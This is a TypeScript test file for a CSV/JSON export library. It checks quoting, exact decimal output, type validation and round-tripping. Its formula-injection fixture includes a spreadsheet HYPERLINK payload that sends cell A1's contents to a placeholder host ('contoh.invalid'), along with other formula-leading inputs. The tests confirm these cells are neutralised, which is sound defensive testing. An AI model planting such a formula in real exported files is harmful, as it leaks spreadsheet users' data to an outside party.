import Decimal from 'decimal.js';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { col, neutralise, restoreNeutralised, toCsv, toJson, type Table } from '../../../src/lib/ekspor/index.ts';

const small: Table = {
  name: 'kecil',
  title: { id: 'Kecil', en: 'Small' },
  description: { id: 'Tabel uji.', en: 'Test table.' },
  columns: [
    col('kode', 'string', 'Kode.', 'Code.'),
    col('nama', 'string', 'Nama.', 'Name.'),
    col('nilai', 'number', 'Nilai.', 'Value.'),
    col('tahun', 'year', 'Tahun.', 'Year.'),
    col('iku', 'boolean', 'IKU.', 'Key indicator.'),
  ],
  rows: [
    { kode: 'A', nama: 'Satu, dua', nilai: new Decimal('1234567.89'), tahun: 2024, iku: true },
    { kode: 'B', nama: 'Kata "kutip"; titik koma', nilai: new Decimal('-0.42'), tahun: undefined, iku: false },
    { kode: 'C', nama: undefined, nilai: undefined, tahun: 2023, iku: undefined },
    { kode: 'D', nama: 'dua\nbaris', nilai: new Decimal('1e-7'), tahun: 2022, iku: true },
  ],
};

describe('toCsv', () => {
  it('writes UTF-8 CSV: comma, header, CRLF after every row, machine numbers, ya/tidak, quotes only where needed', () => {
    expect(toCsv(small)).toBe(
      'kode,nama,nilai,tahun,iku\r\n' +
        'A,"Satu, dua",1234567.89,2024,ya\r\n' +
        'B,"Kata ""kutip""; titik koma",-0.42,,tidak\r\n' +
        'C,,,2023,\r\n' +
        'D,"dua\nbaris",0.0000001,2022,ya\r\n',
    );
  });

  it('writes the header alone (with its line end) for a table without rows', () => {
    expect(toCsv({ ...small, rows: [] })).toBe('kode,nama,nilai,tahun,iku\r\n');
  });

  it('refuses a cell of the wrong type instead of writing it', () => {
    expect(() => toCsv({ ...small, rows: [{ kode: 'A', nama: 'x', nilai: 1.5, tahun: 2024, iku: true }] })).toThrow(
      /column "nilai" \(number\)/,
    );
    expect(() =>
      toCsv({ ...small, rows: [{ kode: 'A', nama: 'x', nilai: undefined, tahun: 2024.5, iku: true }] }),
    ).toThrow(/column "tahun"/);
    expect(() => toCsv({ ...small, rows: [{ kode: 1, nama: 'x', nilai: undefined, tahun: 2024, iku: true }] })).toThrow(
      /column "kode"/,
    );
  });
});

describe('toJson', () => {
  it('writes an array of objects in column order, 2-space indent, exact numbers, null for empty cells', () => {
    expect(toJson(small)).toBe(
      [
        '[',
        '  {',
        '    "kode": "A",',
        '    "nama": "Satu, dua",',
        '    "nilai": 1234567.89,',
        '    "tahun": 2024,',
        '    "iku": true',
        '  },',
        '  {',
        '    "kode": "B",',
        '    "nama": "Kata \\"kutip\\"; titik koma",',
        '    "nilai": -0.42,',
        '    "tahun": null,',
        '    "iku": false',
        '  },',
        '  {',
        '    "kode": "C",',
        '    "nama": null,',
        '    "nilai": null,',
        '    "tahun": 2023,',
        '    "iku": null',
        '  },',
        '  {',
        '    "kode": "D",',
        '    "nama": "dua\\nbaris",',
        '    "nilai": 0.0000001,',
        '    "tahun": 2022,',
        '    "iku": true',
        '  }',
        ']',
        '',
      ].join('\n'),
    );
    expect(toJson({ ...small, rows: [] })).toBe('[]\n');
  });

  it('is what JSON.stringify would write for the same values', () => {
    const parsed: unknown = JSON.parse(toJson(small));
    expect(`${JSON.stringify(parsed, null, 2)}\n`).toBe(toJson(small).replace('0.0000001', '1e-7'));
  });

  it('keeps a number exact in the file, whatever a float would make of it', () => {
    const big: Table = {
      ...small,
      rows: [{ kode: 'X', nama: 'x', nilai: new Decimal('12345678901234567890.123456789'), tahun: 2024, iku: true }],
    };
    expect(toJson(big)).toContain('"nilai": 12345678901234567890.123456789,');
    expect(toCsv(big)).toContain(',12345678901234567890.123456789,');
  });
});

const injection: Table = {
  name: 'injeksi',
  title: { id: 'Injeksi', en: 'Injection' },
  description: { id: 'Uji.', en: 'Test.' },
  columns: [col('teks', 'string', 'Teks.', 'Text.'), col('angka', 'number', 'Angka.', 'Number.')],
  rows: [
    { teks: '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', angka: new Decimal('-5') },
    { teks: '+1', angka: new Decimal('-1.5') },
    { teks: '-1+2', angka: undefined },
    { teks: '@SUM(A1:A9)', angka: undefined },
    { teks: '\tX', angka: undefined },
    { teks: '\rX', angka: undefined },
    { teks: '-', angka: undefined },
    { teks: '-2,23%', angka: new Decimal('-2.23') },
    { teks: "'=sudah", angka: undefined },
    { teks: '− 5 (tanda minus Unicode)', angka: undefined },
    { teks: ' =spasi di depan', angka: undefined },
    { teks: 'a=b', angka: undefined },
  ],
};

describe('formula-injection neutralisation', () => {
  it('prefixes text cells starting with = + - @ tab CR with an apostrophe, keeps negative numbers numeric', () => {
    expect(toCsv(injection)).toBe(
      'teks,angka\r\n' +
        `"'=HYPERLINK(""http://contoh.invalid/?d=""&A1,""klik"")",-5\r\n` +
        "'+1,-1.5\r\n" +
        "'-1+2,\r\n" +
        "'@SUM(A1:A9),\r\n" +
        "'\tX,\r\n" +
        `"'\rX",\r\n` +
        '-,\r\n' +
        `"'-2,23%",-2.23\r\n` +
        "''=sudah,\r\n" +
        '− 5 (tanda minus Unicode),\r\n' +
        '" =spasi di depan",\r\n' +
        'a=b,\r\n',
    );
  });

  it('leaves JSON as printed', () => {
    const rows = JSON.parse(toJson(injection)) as { teks: string; angka: number | null }[];
    expect(rows.map((r) => r.teks)).toEqual(injection.rows.map((r) => r.teks));
    expect(rows[0]?.angka).toBe(-5);
  });

  it('neutralises header cells too (extra tables keep printed headings)', () => {
    const table: Table = {
      ...injection,
      columns: [col('=A1', 'string', '', ''), col('angka', 'number', '', '')],
      rows: [],
    };
    expect(toCsv(table)).toBe("'=A1,angka\r\n");
  });

  it('is exactly reversible', () => {
    for (const row of injection.rows) {
      const text = row.teks as string;
      expect(restoreNeutralised(neutralise(text))).toBe(text);
    }
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ', '1') }), (text) => {
        const written = neutralise(text);
        expect(restoreNeutralised(written)).toBe(text);
        // Nothing a spreadsheet would run survives, except the lone dash.
        if (written !== '-') expect(written).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});

describe('papaparse round trip of arbitrary text', () => {
  it('reads back every text cell of the CSV exactly (after restoring neutralisation)', () => {
    const table = (texts: string[]): Table => ({
      ...small,
      columns: [col('teks', 'string', '', ''), col('angka', 'number', '', '')],
      rows: texts.map((teks, i) => ({ teks, angka: new Decimal(i).negated().dividedBy(8) })),
    });
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 8 }), (texts) => {
        for (const [body, delimiter, decimal] of [[toCsv(table(texts)), ',', '.']] as const) {
          const parsed = Papa.parse<string[]>(body, { delimiter, newline: '\r\n', skipEmptyLines: false });
          expect(parsed.errors).toEqual([]);
          const [header, ...rows] = parsed.data;
          expect(header).toEqual(['teks', 'angka']);
          expect(rows.at(-1)).toEqual(['']); // the line end after the last row
          expect(rows.slice(0, -1).map((r) => restoreNeutralised(r[0] ?? ''))).toEqual(texts);
          expect(rows.slice(0, -1).map((r) => r[1])).toEqual(
            texts.map((_, i) => new Decimal(i).negated().dividedBy(8).toFixed().replace('.', decimal)),
          );
        }
      }),
    );
  });
});
